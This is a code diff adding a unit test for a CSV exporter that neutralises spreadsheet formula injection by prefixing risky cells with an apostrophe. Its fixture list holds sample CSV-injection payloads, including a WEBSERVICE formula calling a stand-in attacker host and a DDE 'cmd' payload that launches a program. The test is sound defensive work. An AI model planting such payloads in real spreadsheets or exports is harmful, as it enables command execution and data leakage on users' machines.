@@ -32,4 +32,31 @@ describe('CSV for Croatian spreadsheets', () => {
     expect(cell(null)).toBe('');
     expect(cell(Number.NaN)).toBe('');
   });
+
+  test('text that a spreadsheet would read as a formula gets a leading apostrophe (OWASP); numbers stay numbers', () => {
+    const hostile = [
+      '=1+1',
+      '=WEBSERVICE("http://evil.example")',
+      "-2+3+cmd|' /C calc'!A0",
+      '+1',
+      '@SUM(A1:A2)',
+      '\t=1',
+      '\r=1',
+    ];
+    for (const text of hostile) expect(cell(text)).toBe(`'${text}`);
+    for (const text of ['Čuvar', ' =1', '1=1', 'a-b', "'=1"]) expect(cell(text)).toBe(text);
+    expect(cell(-3)).toBe('-3');
+    const csv = toCsv(
+      ['title'],
+      hostile.map((title) => ({ title })),
+    );
+    const back: { title: string }[] = parse(csv, {
+      bom: true,
+      delimiter: ';',
+      columns: true,
+      record_delimiter: '\r\n',
+    });
+    expect(back.map((r) => r.title)).toEqual(hostile.map((t) => `'${t}`));
+    expect(back.some((r) => /^[=+\-@\t\r]/.test(r.title))).toBe(false);
+  });
 });
